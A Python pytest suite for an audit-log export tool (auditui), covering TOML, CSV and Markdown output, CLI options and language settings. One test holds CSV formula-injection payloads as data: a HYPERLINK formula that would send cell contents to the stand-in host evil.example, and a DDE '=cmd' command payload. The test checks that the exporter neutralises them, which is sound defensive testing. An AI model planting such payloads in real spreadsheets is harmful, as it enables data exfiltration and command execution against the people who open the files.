"""``auditui export``: every format checked for content."""

from __future__ import annotations

import csv
import io
import re
import tomllib
from pathlib import Path

import pytest

from auditui.cli import run_export
from auditui.core.auditlog import AuditLog, load_logs
from auditui.core.export import CSV_COLUMNS, export, export_bytes
from auditui.core.model import CellRef, Finding, Report, Source, Suggestion

COMMENT = '逗号,引号"单引号\'\n第二行 | 竖线 😀'


def make_report(text: str, path: str, body: str, year: int | None, template: str = "2021") -> Report:
    return Report(source=Source.from_text(text, path=path), body=body, year=year, template=template, tables={})


def F(rule: str, row: str, column: str = "总计", severity: str = "error", table: str = "三") -> Finding:
    return Finding(rule=rule, severity=severity, table=table, row=row, column=column, expected=1, actual=2,
                   message=f"第三部分「{row}」行「{column}」列：{rule}")


A1, A2, A3, A4 = F("row-total", "一"), F("subtotal", "三.七", "自然人"), F("column-balance", "四"), \
    F("blank-cell", "行政复议", "结果维持", "warning", "四")
B1 = F("row-total", "二")


@pytest.fixture
def log_dir(tmp_path) -> Path:
    d = tmp_path / "logs"
    ra = make_report("甲局报告", "reports/甲局2022.txt", "甲市乙局", 2022)
    a = AuditLog.open(ra, [A1, A2, A3, A4], d, "李审计")
    a.set_status(A1.key, "confirmed", "总计应为 12")
    a.set_comment(A1.key, COMMENT)
    a.set_status(A2.key, "dismissed", "口径不同")
    a.set_status(A3.key, "confirmed", "")
    a.add_note("三/三.七/总计", "手写涂改")
    # re-parse: the report changed (A1, A2 stale); A3 no longer found (resolved, its verdict kept and, made on the
    # old bytes, stale too: to look at again, not silently taken as resolved)
    ra2 = make_report("甲局报告（修订）", "reports/甲局2022.txt", "甲市乙局", 2022)
    AuditLog.open(ra2, [A1, A2, A4], d, "王审计")
    rb = make_report("丙局报告", "reports/丙局2021.txt", "丙县丙局", 2021, "2021")
    b = AuditLog.open(rb, [B1], d, "王审计")
    b.set_comment(B1.key, "待复核")
    return d


def test_toml_export(log_dir):
    logs, errors = load_logs(log_dir)
    assert errors == []
    doc = tomllib.loads(export(logs, "toml"))
    assert doc["schema"] == 1
    assert doc["counts"] == {"open": 2, "confirmed": 1, "dismissed": 1, "resolved": 1, "stale": 3}
    reports = doc["report"]
    assert [r["body"] for r in reports] == ["丙县丙局", "甲市乙局"]  # ordered by body
    b, a = reports
    assert (a["path"], a["year"], a["template"], a["stale"]) == ("reports/甲局2022.txt", 2022, "2021", True)
    assert a["counts"] == {"open": 1, "confirmed": 1, "dismissed": 1, "resolved": 1, "stale": 3}
    assert a["log"].startswith("甲局2022-") and a["log"].endswith(".toml")
    f = {x["key"]: x for x in a["finding"]}
    assert (f[A1.key]["status"], f[A1.key]["reason"], f[A1.key]["comment"]) == ("confirmed", "总计应为 12", COMMENT)
    assert (f[A1.key]["auditor"], f[A1.key]["stale"]) == ("李审计", True)
    assert f[A1.key]["time"][:2] == "20"
    assert (f[A2.key]["status"], f[A2.key]["reason"]) == ("dismissed", "口径不同")
    assert (f[A3.key]["status"], f[A3.key]["verdict"], f[A3.key]["resolved"]) == ("resolved", "confirmed", True)
    assert f[A3.key]["stale"] is True
    assert f[A4.key]["status"] == "open"
    assert a["note"][0]["target"] == "三/三.七/总计" and a["note"][0]["text"] == "手写涂改"
    assert b["counts"]["open"] == 1 and b["finding"][0]["comment"] == "待复核" and b["stale"] is False


def test_csv_export(log_dir):
    logs, _ = load_logs(log_dir)
    data = export_bytes(logs, "csv")
    assert data.startswith(b"\xef\xbb\xbf")  # BOM: spreadsheets read it as UTF-8
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert list(rows[0]) == list(CSV_COLUMNS)
    findings = [r for r in rows if r["kind"] == "finding"]
    notes = [r for r in rows if r["kind"] == "note"]
    assert len(findings) == 5 and len(notes) == 1
    by_key = {(r["body"], r["key"]): r for r in findings}
    a1 = by_key[("甲市乙局", A1.key)]
    assert (a1["status"], a1["reason"], a1["comment"], a1["auditor"], a1["stale"]) == (
        "confirmed", "总计应为 12", COMMENT, "李审计", "yes")
    assert (a1["report_path"], a1["year"], a1["template"], a1["table"], a1["row"], a1["column"]) == (
        "reports/甲局2022.txt", "2022", "2021", "三", "一", "总计")
    assert a1["message"] == A1.message
    a3 = by_key[("甲市乙局", A3.key)]
    assert (a3["status"], a3["verdict"]) == ("resolved", "confirmed")
    assert by_key[("丙县丙局", B1.key)]["comment"] == "待复核"
    assert (notes[0]["table"], notes[0]["row"], notes[0]["column"], notes[0]["comment"]) == (
        "三", "三.七", "总计", "手写涂改")
    # CRLF rows as spreadsheets expect; the newline inside the comment survives inside its quotes
    assert data.count(b"\r\n") == 1 + 5 + 1


def test_markdown_export(log_dir):
    logs, _ = load_logs(log_dir)
    md = export(logs, "md")
    lines = md.splitlines()
    assert lines[0].startswith("# ")
    summary = [line for line in lines if line.startswith("| ")]
    assert summary[0].split("|")[5:10] == [" Open ", " Confirmed ", " Dismissed ", " Resolved ", " Stale "]
    row_a = next(line for line in summary if "甲市乙局" in line)
    assert [c.strip() for c in row_a.split("|")[3:10]] == ["2022", "2021", "1", "1", "1", "1", "3"]
    assert "reports/甲局2022.txt" in row_a
    total = next(line for line in summary if "Total" in line)
    assert [c.strip() for c in total.split("|")[5:10]] == ["**2**", "**1**", "**1**", "**1**", "**3**"]
    # sections: one per report, stale warning, each finding with status, reason, comment, auditor
    assert "## 1. 丙县丙局 · 2021" in md and "## 2. 甲市乙局 · 2022" in md
    section = md[md.index("## 2. 甲市乙局"):]
    assert "review" in section and "**Stale**" in section
    assert "1. **confirmed (the report is wrong)** · **Stale** · error · row-total · 三/一/总计" in section
    assert "     > 总计应为 12" in section
    assert "     > 逗号,引号\"单引号'" in section and "     > 第二行 \\| 竖线 😀" in section  # line for line
    assert "By: 李审计 20" in section
    assert "**dismissed (not a real problem)**" in section and "     > 口径不同" in section
    assert "**resolved (no longer found)**" in section and "verdict before it was resolved: confirmed" in section
    assert "- **三/三.七/总计** (李审计" in section and "  > 手写涂改" in section
    zh = export(logs, "md", lang="zh")
    assert "审计记录" in zh and "确认有误" in zh and "待复核" in zh


def test_markdown_escapes_what_would_break_it(tmp_path):
    r = make_report("x", "r/x.txt", "机关|名称", 2022)
    log = AuditLog.open(r, [A1], tmp_path, "li")
    log.set_comment(A1.key, "# 不是标题\n    不是代码\n- 不是列表\n<script>\x01")
    md = export(load_logs(tmp_path)[0], "md")
    assert "机关\\|名称" in md
    assert "> \\# 不是标题" in md and "> \u00a0\u00a0\u00a0\u00a0不是代码" in md and "> \\- 不是列表" in md
    assert "\\<script\\>␁" in md and "<script>" not in md


def test_empty_export():
    assert tomllib.loads(export([], "toml"))["counts"]["open"] == 0
    assert export([], "csv").splitlines() == [",".join(f'"{c}"' for c in CSV_COLUMNS)]
    assert "No audit logs." in export([], "md")
    with pytest.raises(ValueError):
        export([], "xlsx")


# ------------------------------------------------------------------------------------------------ CLI


@pytest.mark.parametrize("fmt", ["toml", "csv", "md"])
def test_run_export_to_file(log_dir, tmp_path, fmt, capsys):
    out = tmp_path / f"out.{fmt}"
    assert run_export(str(log_dir), fmt, str(out)) == 0
    text = out.read_bytes().decode("utf-8-sig")
    assert "甲市乙局" in text and "丙县丙局" in text
    assert "2 report(s)" in capsys.readouterr().err


def test_run_export_infers_format_and_writes_stdout(log_dir, tmp_path, capsysbinary):
    out = tmp_path / "summary.csv"
    assert run_export(str(log_dir), None, str(out)) == 0
    assert out.read_bytes().startswith(b'\xef\xbb\xbf"report_path",')
    capsysbinary.readouterr()
    assert run_export(str(log_dir), "toml", None) == 0
    assert tomllib.loads(capsysbinary.readouterr().out.decode("utf-8"))["counts"]["confirmed"] == 1


def test_run_export_names_unreadable_logs_and_exports_the_rest(log_dir, tmp_path, capsys):
    bad = log_dir / "broken-00000000.toml"
    bad.write_text('schema = 1\n[report\n', "utf-8")
    out = tmp_path / "out.md"
    assert run_export(str(log_dir), "md", str(out)) == 1
    err = capsys.readouterr().err
    assert str(bad) in err and "not valid TOML" in err and "untouched" in err
    assert "甲市乙局" in out.read_text("utf-8")
    assert bad.read_text("utf-8") == 'schema = 1\n[report\n'


def test_run_export_errors(tmp_path, capsys, monkeypatch):
    assert run_export(str(tmp_path / "missing"), "md", None) == 1
    assert "not a folder" in capsys.readouterr().err
    assert run_export(str(tmp_path), "md", None) == 1
    assert "no audit logs" in capsys.readouterr().err
    assert run_export(str(tmp_path), "xlsx", None) == 2
    assert "unknown format" in capsys.readouterr().err
    conf = tmp_path / "config.toml"
    conf.write_text("log_dir = = 1", "utf-8")
    monkeypatch.setenv("AUDITUI_CONFIG", str(conf))
    assert run_export(None, "md", None) == 2
    assert str(conf) in capsys.readouterr().err


def test_run_export_uses_the_config_log_dir(log_dir, tmp_path, monkeypatch, capsysbinary):
    conf = tmp_path / "config.toml"
    conf.write_text(f'log_dir = "{log_dir.as_posix()}"\nlang = "zh"\n', "utf-8")
    monkeypatch.setenv("AUDITUI_CONFIG", str(conf))
    assert run_export(None, "md", None) == 0
    assert "审计记录" in capsysbinary.readouterr().out.decode("utf-8")


def test_cli_export(log_dir, tmp_path):
    cli = pytest.importorskip("auditui.cli")
    out = tmp_path / "x.csv"
    assert cli.main(["export", "--log-dir", str(log_dir), "--format", "csv", "-o", str(out)]) == 0
    rows = list(csv.DictReader(io.StringIO(out.read_bytes().decode("utf-8-sig"), newline="")))
    assert {r["body"] for r in rows} == {"甲市乙局", "丙县丙局"}


def test_cli_check_counts_only_undismissed_errors(tmp_path):
    cli = pytest.importorskip("auditui.cli")
    from auditui.core.load import load
    from auditui.core.parse import parse
    from auditui.core.rules import check

    sample = Path(__file__).resolve().parent.parent / "sample_reports" / "003_a190ec9e232fd5b0.txt"
    report_file = tmp_path / "003.txt"
    report_file.write_bytes(sample.read_bytes())
    report = parse(load(report_file))
    findings = check(report)
    errors = [f for f in findings if f.severity == "error"]
    if not errors:
        pytest.skip("the sample has no errors any more")
    logs = tmp_path / "logs"
    args = ["check", str(report_file), "--log-dir", str(logs)]
    assert cli.main(args) == 1
    assert not logs.exists()  # check --log-dir never creates logs
    log = AuditLog.open(report, findings, logs, "li")
    for f in errors[:-1]:
        log.set_status(f.key, "dismissed", "不是错误")
    log.set_status(errors[-1].key, "confirmed")
    assert cli.main(args) == 1
    log.set_status(errors[-1].key, "dismissed", "也不是")
    assert cli.main(args) == 0


# ------------------------------------------------------------------------------------------------ language, fixes


def _fixed_finding() -> Finding:
    cell = CellRef("三", "三.一", "自然人")
    also = Suggestion(CellRef("三", "三.一", "总计"), 12, 11, 1)
    return Finding(rule="row-total", severity="error", table="三", row="三.一", column="总计", expected=11,
                   actual=12, message="第三部分「三.一」行：总计 12 ≠ 11", message_en="part 三 row 三.一: 总计 12 ≠ 11",
                   suggestions=(Suggestion(cell, 3, 2, 1, (also,)), Suggestion(CellRef("三", "三.一", "商业企业"),
                                                                              None, 1, 1)))


def test_exports_follow_the_language_and_carry_the_suggested_fixes(tmp_path):
    f = _fixed_finding()
    log = AuditLog.open(make_report("报告", "r/报告.txt", "某局", 2022), [f], tmp_path, "李")
    log.set_status(f.key, "confirmed", "确有错误")
    logs, _ = load_logs(tmp_path)
    assert logs[0].entries[0].fixes == ["三.一/自然人 3 → 2, 总计 12 → 11", "三.一/商业企业 ∅ → 1"]
    en, zh = export(logs, "md", lang="en"), export(logs, "md", lang="zh")
    assert "part 三 row 三.一: 总计 12 ≠ 11" in en and "第三部分" not in en
    assert "possible fix: 三.一/自然人 3 → 2, 总计 12 → 11; or 三.一/商业企业 ∅ → 1" in en
    assert "可能的修正：三.一/自然人 3 → 2, 总计 12 → 11；或 三.一/商业企业 ∅ → 1" in zh and "第三部分" in zh
    # apart from the report's own words (body, path, the auditor's reason) and ids, English is English
    cjk = re.compile(r"[\u3400-\u9fff]+")
    leftovers = set(cjk.findall(en)) - {"某局", "报告", "李", "确有错误", "三", "一", "自然人", "总计", "商业企业"}
    assert leftovers == set(), leftovers
    rows = list(csv.DictReader(io.StringIO(export(logs, "csv", lang="en"), newline="")))
    assert rows[0]["message"] == f.message_en and rows[0]["fixes"].startswith("possible fix: 三.一/自然人 3 → 2")
    rows = list(csv.DictReader(io.StringIO(export(logs, "csv", lang="zh"), newline="")))
    assert rows[0]["message"] == f.message and rows[0]["fixes"].startswith("可能的修正：")
    doc = tomllib.loads(export(logs, "toml", lang="en"))
    assert doc["lang"] == "en" and doc["report"][0]["finding"][0]["fixes"] == logs[0].entries[0].fixes
    assert doc["report"][0]["finding"][0]["message"] == f.message_en
    assert doc["report"][0]["finding"][0]["rule"] == "row-total" and doc["report"][0]["finding"][0]["status"] == "confirmed"


def test_cli_export_language_from_the_option_or_the_config(tmp_path, monkeypatch, capsysbinary):
    f = _fixed_finding()
    AuditLog.open(make_report("报告", "r/报告.txt", "某局", 2022), [f], tmp_path / "logs", "李").set_comment(f.key, "x")
    cli = pytest.importorskip("auditui.cli")
    assert cli.main(["export", "--log-dir", str(tmp_path / "logs"), "--lang", "en"]) == 0
    assert "possible fix" in capsysbinary.readouterr().out.decode("utf-8")
    assert cli.main(["export", "--log-dir", str(tmp_path / "logs")]) == 0  # no config: zh, as the TUI
    assert "可能的修正" in capsysbinary.readouterr().out.decode("utf-8")
    conf = tmp_path / "config.toml"
    conf.write_text('lang = "en"\n', "utf-8")
    monkeypatch.setenv("AUDITUI_CONFIG", str(conf))
    assert cli.main(["export", "--log-dir", str(tmp_path / "logs"), "--format", "csv"]) == 0
    assert "possible fix" in capsysbinary.readouterr().out.decode("utf-8-sig")
    assert cli.main(["export", "--log-dir", str(tmp_path / "logs"), "--lang", "fr"]) == 2
    assert b"unknown language 'fr'" in capsysbinary.readouterr().err


# ------------------------------------------------------------------------------------------------ CSV injection


def test_csv_cells_that_would_be_formulas_are_neutralised(tmp_path):
    title = '=HYPERLINK("http://evil.example/"&B2,"点击查看")'
    r = make_report("报告", "r/x.txt", title, 2022)
    log = AuditLog.open(r, [A1, A2], tmp_path, "@auditor")
    log.set_status(A1.key, "dismissed", "+1 是上年结转")
    log.set_comment(A1.key, "-2 见附件")
    log.set_comment(A2.key, "\t=1+1")
    log.add_note("三/一/总计", "\r=cmd|' /C calc'!A0")
    log.set_status(A2.key, "confirmed", "正常的理由 = 不是公式")
    data = export_bytes(load_logs(tmp_path)[0], "csv")
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    a1 = next(r for r in rows if r["key"] == A1.key)
    a2 = next(r for r in rows if r["key"] == A2.key)
    note = next(r for r in rows if r["kind"] == "note")
    assert a1["body"] == "'" + title and a1["reason"] == "'+1 是上年结转" and a1["comment"] == "'-2 见附件"
    assert a1["auditor"] == "'@auditor" and a2["comment"] == "'\t=1+1" and note["comment"] == "'\r=cmd|' /C calc'!A0"
    assert a2["reason"] == "正常的理由 = 不是公式"  # only a formula's first character matters
    # every field is quoted; no field starts with a formula character
    for line in data.decode("utf-8-sig").split("\r\n")[1:-1]:
        assert line.startswith('"')
    assert all(not v.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for v in r.values())


# ------------------------------------------------------------------------------------------------ log folder


def test_an_export_saved_among_the_logs_is_passed_over_quietly(log_dir, tmp_path, capsys):
    inside = log_dir / "audit.toml"
    assert run_export(str(log_dir), None, str(inside)) == 0
    (log_dir / "README.md").write_text("团队的审计日志", "utf-8")
    capsys.readouterr()
    out = tmp_path / "again.md"
    assert run_export(str(log_dir), None, str(out)) == 0
    assert "skipped" not in capsys.readouterr().err
    logs, errors = load_logs(log_dir)
    assert errors == [] and len(logs) == 2


def test_the_default_output_of_export_is_the_current_folder(log_dir, tmp_path, monkeypatch, capsys):
    monkeypatch.chdir(tmp_path)
    assert run_export(str(log_dir), "md", "summary.md") == 0
    assert (tmp_path / "summary.md").exists() and not (log_dir / "summary.md").exists()
